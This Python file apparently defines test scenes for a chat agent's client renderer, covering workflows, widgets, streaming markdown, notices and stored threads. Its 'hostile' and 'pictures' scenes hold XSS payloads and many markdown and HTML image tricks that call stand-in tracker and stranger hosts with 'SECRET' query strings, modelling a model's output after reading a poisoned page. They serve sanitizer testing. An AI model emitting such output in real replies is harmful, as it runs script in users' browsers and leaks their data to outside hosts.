"""The agent ``items``: shows what its message names, every kind of thread item among it.

What has a middle waits there until the same user says "go on" in another thread.
"""

import asyncio
import re
from base64 import b64encode
from collections import defaultdict
from collections.abc import AsyncIterator, Callable
from datetime import datetime
from functools import partial
from io import BytesIO
from pathlib import Path
from typing import Any

from chatkit.errors import CustomStreamError
from chatkit.types import (
    Annotation,
    AssistantMessageContent,
    AssistantMessageContentPartAdded,
    AssistantMessageContentPartTextDelta,
    AssistantMessageItem,
    ClientEffectEvent,
    ClientToolCallItem,
    ClosedStatus,
    CustomSummary,
    CustomTask,
    DurationSummary,
    EndOfTurnItem,
    EntitySource,
    FileSource,
    FileTask,
    GeneratedImage,
    GeneratedImageItem,
    GeneratedImageUpdated,
    ImageTask,
    InferenceOptions,
    LockedStatus,
    NoticeEvent,
    ProgressUpdateEvent,
    SearchTask,
    StructuredInputFreeform,
    StructuredInputItem,
    StructuredInputMultipleChoice,
    StructuredInputMultipleChoiceOption,
    Task,
    TaskItem,
    ThoughtTask,
    ThreadItem,
    ThreadItemAddedEvent,
    ThreadItemDoneEvent,
    ThreadItemUpdate,
    ThreadItemUpdatedEvent,
    ThreadStreamEvent,
    URLSource,
    UserMessageContent,
    UserMessageItem,
    UserMessageTextContent,
    WidgetItem,
    Workflow,
    WorkflowItem,
    WorkflowTaskAdded,
    WorkflowTaskUpdated,
)
from chatkit.widgets import Card, Markdown, Text, Title
from chatkit.widgets import Image as Picture
from PIL import Image

from chatkit_link.agents.context import TurnContext

Events = AsyncIterator[ThreadStreamEvent]

#: By user: whether what waits in its middle may go on.
_told_to_go_on: defaultdict[str, asyncio.Event] = defaultdict(asyncio.Event)


def _picture() -> str:
    """An evening sky, as the address that image models answer with."""
    sky = Image.merge("RGB", [Image.linear_gradient("L").point(partial(_between, *ends)) for ends in _SKY])
    file = BytesIO()
    sky.resize((640, 420)).save(file, "PNG")
    return "data:image/png;base64," + b64encode(file.getvalue()).decode()


#: Red, green and blue, at the top and at the bottom.
_SKY = ((36, 246), (52, 178), (110, 107))


def _between(top: int, bottom: int, at: int) -> int:
    return top + (bottom - top) * at // 255


MARKDOWN = """## What a lock is for

A **row lock** keeps two writers apart, and `FOR UPDATE` takes one. Readers are *not* kept out, as the manual says.
How long it is held matters more than how many there are.

1. Take the lock.
2. Change the row.
   - one statement is best
   - two are fine
3. Commit.

| Lock | Readers | Writers | Held until |
| --- | --- | --- | --- |
| `FOR SHARE` | go on | wait | the transaction ends |
| `FOR UPDATE` | go on | wait | the transaction ends |

```python
async def transfer(session: AsyncSession, amount: Decimal) -> None:
    # The same order everywhere, so that two of these cannot wait for each other.
    account = await session.get(Account, 1, with_for_update=True)
    account.balance -= amount  # cents
```

> Locks are taken one by one; deadlocks are found, and one of the two is told to start over.

- [x] read the [manual](https://www.postgresql.org/docs/current/explicit-locking.html)
- [ ] try it
"""

_POSTGRES = URLSource(
    title="PostgreSQL: Explicit Locking",
    url="https://www.postgresql.org/docs/current/explicit-locking.html",
    description="Table-level, row-level and advisory locks.",
)
_NOTES = FileSource(title="Notes on row locks", filename="row-locks.pdf")
_TICKET = EntitySource(
    id="ticket-7",
    title="Ticket 7: slow writes",
    description="Opened by the team of the shop",
    icon="bug",
    label="Ticket 7: slow writes in the shop",
    inline_label="Ticket 7",
    interactive=True,
)


def _base(ctx: TurnContext, kind: Any) -> dict[str, Any]:
    return {"id": ctx.new_id(kind), "thread_id": ctx.thread.id, "created_at": datetime.now()}


def _message(ctx: TurnContext, text: str, annotations: list[Annotation] | None = None) -> AssistantMessageItem:
    content = AssistantMessageContent(text=text, annotations=annotations or [])
    return AssistantMessageItem(**_base(ctx, "message"), content=[content])


def _done(item: ThreadItem) -> ThreadItemDoneEvent:
    return ThreadItemDoneEvent(item=item)


def _update(item: ThreadItem, update: ThreadItemUpdate) -> ThreadItemUpdatedEvent:
    return ThreadItemUpdatedEvent(item_id=item.id, update=update)


async def _middle(ctx: TurnContext) -> None:
    await _told_to_go_on[ctx.caller.user].wait()
    del _told_to_go_on[ctx.caller.user]


def _tasks() -> list[Task]:
    return [
        SearchTask(
            status_indicator="complete",
            title="Looked it up",
            queries=["postgres row locks", "select for update"],
            sources=[_POSTGRES, *(URLSource(title=f"Page {at}", url=f"https://site-{at}.example/") for at in range(9))],
        ),
        FileTask(status_indicator="complete", title="Read two files", sources=[_NOTES]),
        ThoughtTask(status_indicator="complete", title="Weighed both", content="Readers **never** wait here."),
        ImageTask(status_indicator="complete", title="Drew the order of locks"),
        CustomTask(status_indicator="none", title="Kept a note", icon="notebook", content="In the notebook."),
    ]


async def everything(ctx: TurnContext) -> Events:
    """One of each, as it is when it is done."""
    thought = Workflow(
        type="reasoning", tasks=[ThoughtTask(content="The order matters.")], summary=DurationSummary(duration=65)
    )
    yield _done(WorkflowItem(**_base(ctx, "workflow"), workflow=thought))
    steps = Workflow(
        type="custom", tasks=_tasks(), summary=CustomSummary(title="Looked into locks", icon="search"), expanded=True
    )
    yield _done(WorkflowItem(**_base(ctx, "workflow"), workflow=steps))
    yield _done(TaskItem(**_base(ctx, "task"), task=CustomTask(title="Opened the ticket", icon="bug", content="`#7`")))
    at = MARKDOWN.index
    marks = [
        Annotation(source=_POSTGRES, index=at(" Readers")),
        Annotation(source=_NOTES, index=at("\nHow long")),
        Annotation(source=_TICKET, index=at("\n\n1. Take")),
    ]
    yield _done(_message(ctx, MARKDOWN, marks))
    card = Card(
        children=[Title(value="Row locks"), Text(value="Two writers, one row."), Markdown(value="**Wait** is fine.")]
    )
    yield _done(WidgetItem(**_base(ctx, "message"), widget=card, copy_text="Row locks: two writers, one row."))
    picture = GeneratedImage(id="picture", url=_picture())
    yield _done(GeneratedImageItem(**_base(ctx, "message"), image=picture))
    yield NoticeEvent(
        level="info", message="You have used **80 of 100** messages. [See plans](https://example.com/plans)"
    )
    yield NoticeEvent(level="warning", title="Almost full", message="Old chats will be deleted soon.")
    yield NoticeEvent(level="danger", message="The search was *not* available.")
    yield _done(EndOfTurnItem(**_base(ctx, "message")))


async def at_work(ctx: TurnContext) -> Events:
    """A workflow, a progress and an image in their middle, and then done."""
    tasks: list[Task] = [task.model_copy(update={"status_indicator": "complete"}) for task in _tasks()[:2]]
    item = WorkflowItem(**_base(ctx, "workflow"), workflow=Workflow(type="custom", tasks=[]))
    yield ThreadItemAddedEvent(item=item.model_copy(deep=True))
    for index, task in enumerate([*tasks, SearchTask(status_indicator="loading", title_query="deadlocks")]):
        yield _update(item, WorkflowTaskAdded(task_index=index, task=task))
    image = GeneratedImageItem(**_base(ctx, "message"))
    yield ThreadItemAddedEvent(item=image.model_copy())
    picture = GeneratedImage(id="picture", url=_picture())
    yield _update(image, GeneratedImageUpdated(image=picture, progress=0.4))
    yield ProgressUpdateEvent(icon="search", text="Asking two more places…")
    await _middle(ctx)
    tasks.append(SearchTask(status_indicator="complete", title="Searched for deadlocks"))
    yield _update(item, WorkflowTaskUpdated(task_index=2, task=tasks[2]))
    yield _done(item.model_copy(update={"workflow": Workflow(type="custom", tasks=tasks)}))
    yield _done(image.model_copy(update={"image": picture}))
    yield _done(_message(ctx, "All of it is done."))


async def questions(ctx: TurnContext) -> Events:
    """Three questions at once; what was answered is read back."""
    asked = [item for item in await ctx.history() if item.type == "structured_input"]
    if ctx.message is None and asked:
        said = [f"{one.id}: {', '.join(one.answer.values) if one.answer else '-'}" for one in asked[-1].inputs]
        yield _done(_message(ctx, f"You chose {'; '.join(said)}."))
        return
    option = StructuredInputMultipleChoiceOption
    yield _done(
        StructuredInputItem(
            **_base(ctx, "message"),
            inputs=[
                StructuredInputMultipleChoice(
                    id="size", question="How large is the table?", options=[option(value="Small"), option(value="Huge")]
                ),
                StructuredInputMultipleChoice(
                    id="writers",
                    question="Who writes to it?",
                    options=[option(value="People"), option(value="Jobs"), option(value="Other services")],
                    multiple=True,
                ),
                StructuredInputFreeform(id="why", question="What is slow?", description="A sentence is enough."),
            ],
        )
    )


async def tool(ctx: TurnContext) -> Events:
    """Asks the page for something, and reports what it gave."""
    if ctx.message is None:
        call = next(item for item in reversed(await ctx.history()) if item.type == "client_tool_call")
        yield _done(_message(ctx, f"The page gave {call.output}."))
        return
    yield ClientEffectEvent(name="flash", data={"color": "green"})
    yield _done(
        ClientToolCallItem(**_base(ctx, "tool_call"), call_id="call", name="where_am_i", arguments={"precise": True})
    )


async def error(ctx: TurnContext) -> Events:
    """Fails, and may be tried again."""
    yield _done(_message(ctx, "This far it went."))
    raise CustomStreamError("The model is busy.", allow_retry=True)


async def lock(ctx: TurnContext) -> Events:
    ctx.thread.status = LockedStatus(reason="Locked by a moderator until Monday.")
    yield _done(_message(ctx, "This thread is locked now."))


async def close(ctx: TurnContext) -> Events:
    ctx.thread.status = ClosedStatus(reason="This ticket is solved. Start a new chat for anything else.")
    yield _done(_message(ctx, "This thread is closed now."))


async def domains(ctx: TurnContext) -> Events:
    """Names where the pictures of this thread may come from."""
    ctx.thread.allowed_image_domains = ["*.pictures.example"]
    yield _done(_message(ctx, "Pictures come from there."))


async def hostile(ctx: TurnContext) -> Events:
    """What a model might say after reading a bad page."""
    yield _done(
        _message(
            ctx,
            "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'>\n\n"
            "[run](javascript:window.hacked=3) [data](data:text/html,<script>1</script>) [fine](https://example.com/)\n\n"
            "![elsewhere](https://tracker.example/pixel?words=secret)\n\n"
            "<picture><source srcset='https://tracker.example/set'><img src='https://tracker.example/set' alt='set'>"
            "</picture>\n\n"
            "![allowed](https://cdn.pictures.example/dot.svg)\n\n"
            "<iframe src='https://tracker.example/frame'></iframe><style>body{display:none}</style>\n\n"
            f"{'> ' * 3_000}deep\n\n{'- ' * 3_000}deep\n\nThe end.",
        )
    )


async def pictures(ctx: TurnContext, stranger: str) -> Events:
    """What a model writes that wants a browser to call a stranger, and a widget that the server has written."""
    attempts = [
        f"![plain]({stranger}/plain.svg?q=SECRET)",
        f"![by reference][there]\n\n[there]: {stranger}/reference.svg",
        f"<img src='{stranger}/tag.svg' alt='a tag' srcset='{stranger}/set.svg 2x' style='content:url({stranger}/s)'>",
        f"![without a scheme]({stranger.removeprefix('http:')}/relative.svg)",
        f"<img src='/\\{stranger.removeprefix('http://')}/backslash.svg' alt='a backslash'>",
        f"[![in a link]({stranger}/linked.svg)]({stranger}/page)",
        f"<picture><source srcset='{stranger}/source.svg'><img src='{stranger}/fallback.svg' alt='of many'></picture>",
        f"![with a user](http://127.0.0.1@{stranger.removeprefix('http://')}/user.svg)",
        f"<video src='{stranger}/v' poster='{stranger}/poster.svg' autoplay></video>",
        f"<link rel=prefetch href='{stranger}/prefetch'><audio src='{stranger}/audio' autoplay></audio>",
        f"$$\\includegraphics{{{stranger}/formula.svg}}$$",
        "![data](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'/%3E)",
        "![own](/own-picture.svg)",
        "![elsewhere](https://xn--bcher-kva.example:8443/book.svg) ![plain http](http://plain.example/p.svg)",
    ]
    thought = ThoughtTask(content=f"![thought]({stranger}/thought.svg)")
    steps = Workflow(type="reasoning", tasks=[thought], summary=DurationSummary(duration=2), expanded=True)
    yield _done(WorkflowItem(**_base(ctx, "workflow"), workflow=steps))
    card = Card(
        children=[
            Picture(src=f"{stranger}/widget.svg", alt="of the widget"),
            Markdown(value=f"![in its text]({stranger}/widget-text.svg)"),
        ]
    )
    yield _done(WidgetItem(**_base(ctx, "message"), widget=card))
    source = URLSource(title=f"![title]({stranger}/title.svg)", url="https://named.example/page")
    marks = [Annotation(source=source, index=0)]
    yield _done(_message(ctx, "\n\n".join(["See:", *attempts, "The end."]), marks))
    yield NoticeEvent(level="info", message=f"![notice]({stranger}/notice.svg)")


async def listed(ctx: TurnContext) -> Events:
    """Pictures of cdn.example, which the test lists, and of others."""
    yield _done(
        WidgetItem(**_base(ctx, "message"), widget=Card(children=[Picture(src="https://cdn.example/card.svg")]))
    )
    elsewhere = "![port](https://cdn.example:8443/port.svg) ![below](https://a.cdn.example/below.svg)"
    yield _done(_message(ctx, f"![listed](https://cdn.example/listed.svg)\n\n{elsewhere}\n\nThe end."))


LINKS = """
[unknown](https://stranger.example/collect?q=SECRET#part), [source](https://named.example/other),
[yours](http://written.example:8080/x), [this server](/documents/), [mail](mailto:me@stranger.example),
[https://named.example](https://named.example.stranger.example/login), [named.example/login](https://written.example:8080/),
[user](https://named.example@xn--bcher-kva.example/), <https://stranger.example/bare>, [`setup.py`](https://named.example/)
"""


async def links(ctx: TurnContext) -> Events:
    marks = [Annotation(source=URLSource(title="Named", url="https://named.example/page"), index=0)]
    yield _done(_message(ctx, LINKS, marks))


async def long(ctx: TurnContext) -> Events:
    """Five thousand words, a few at a time: at the pace of a quick model, not as fast as the line can."""
    item = _message(ctx, "")
    yield ThreadItemAddedEvent(item=item.model_copy(update={"content": []}))
    yield _update(item, AssistantMessageContentPartAdded(content_index=0, content=AssistantMessageContent(text="")))
    text = ""
    for piece in _pieces(5_000):
        text += piece
        yield _update(item, AssistantMessageContentPartTextDelta(content_index=0, delta=piece))
        await asyncio.sleep(0.005)
    yield _done(item.model_copy(update={"content": [AssistantMessageContent(text=text)]}))


async def markdown(ctx: TurnContext) -> Events:
    """``markdown.md`` in small pieces, with a wait in its middle."""
    item = _message(ctx, "")
    yield ThreadItemAddedEvent(item=item.model_copy(update={"content": []}))
    yield _update(item, AssistantMessageContentPartAdded(content_index=0, content=AssistantMessageContent(text="")))
    text = (Path(__file__).parent / "markdown.md").read_text(encoding="utf-8")
    middle = text.index("**two**") + 4
    for start, end in ((0, middle), (middle, len(text))):
        for at in range(start, end, 7):
            delta = text[at : min(at + 7, end)]
            yield _update(item, AssistantMessageContentPartTextDelta(content_index=0, delta=delta))
            await asyncio.sleep(0)
        if end == middle:
            await _told_to_go_on[ctx.caller.user].wait()
            del _told_to_go_on[ctx.caller.user]
    yield _done(item.model_copy(update={"content": [AssistantMessageContent(text=text)]}))


def _pieces(words: int) -> list[str]:
    """Paragraphs of fifty words under a heading each ten, with a list now and then; four words a piece."""
    pieces: list[str] = []
    for at in range(0, words, 4):
        paragraph = at // 48
        start = ""
        if at % 48 == 0:
            start = f"\n\n## Part {paragraph // 10}\n\n" if paragraph % 10 == 0 else "\n\n"
            start += "- " if paragraph % 5 == 4 else ""
        pieces.append(f"{start}word {at} and **more** ")
    return pieces


async def thousand(ctx: TurnContext) -> Events:
    """A thousand stored items: 500 questions, and answers of different lengths."""
    async for event in _stored(ctx, 500):
        yield event


async def hundred(ctx: TurnContext) -> Events:
    async for event in _stored(ctx, 50):
        yield event


async def sixty(ctx: TurnContext) -> Events:
    async for event in _stored(ctx, 30):
        yield event


async def _stored(ctx: TurnContext, turns: int) -> Events:
    for at in range(1, turns + 1):
        said: list[UserMessageContent] = [UserMessageTextContent(text=f"Question {at}?")]
        question = UserMessageItem(
            **_base(ctx, "message"), content=said, attachments=[], inference_options=InferenceOptions()
        )
        parts = f"\n\nIt has **{at % 7}** parts.\n\n" + f"- one of them, of `{at}`\n" * (at % 7)
        text = f"Answer {at} takes a sentence or two. This is the second one of them."
        answer = _message(ctx, text + (parts if at % 7 > 3 else ""))
        await ctx.store.add_thread_item(ctx.thread.id, question, ctx.caller)
        await ctx.store.add_thread_item(ctx.thread.id, answer, ctx.caller)
    yield _done(_message(ctx, "All of them are stored."))


async def go_on(ctx: TurnContext) -> Events:
    _told_to_go_on[ctx.caller.user].set()
    yield ProgressUpdateEvent(text="It goes on.")


SCENES: dict[str, Callable[[TurnContext], Events]] = {
    "everything": everything,
    "at work": at_work,
    "questions": questions,
    "tool": tool,
    "error": error,
    "lock": lock,
    "close": close,
    "domains": domains,
    "hostile": hostile,
    "links": links,
    "listed": listed,
    "long": long,
    "markdown": markdown,
    "thousand": thousand,
    "hundred": hundred,
    "sixty": sixty,
    "go on": go_on,
}


async def items(ctx: TurnContext) -> Events:
    """The scene that the newest message names; anything else is said back."""
    spoken = [item for item in await ctx.history() if isinstance(item, UserMessageItem)]
    name = "".join(part.text for part in spoken[-1].content).strip().lower()
    if port := re.fullmatch(r"pictures of port (\d+)", name):
        async for event in pictures(ctx, f"http://127.0.0.1:{port[1]}"):
            yield event
        return
    name = name.partition(" and ")[0]
    if name not in SCENES:
        quoted = f" about “{spoken[-1].quoted_text}”" if spoken[-1].quoted_text else ""
        yield _done(_message(ctx, f"You said “{name}”{quoted}."))
        return
    async for event in SCENES[name](ctx):
        yield event
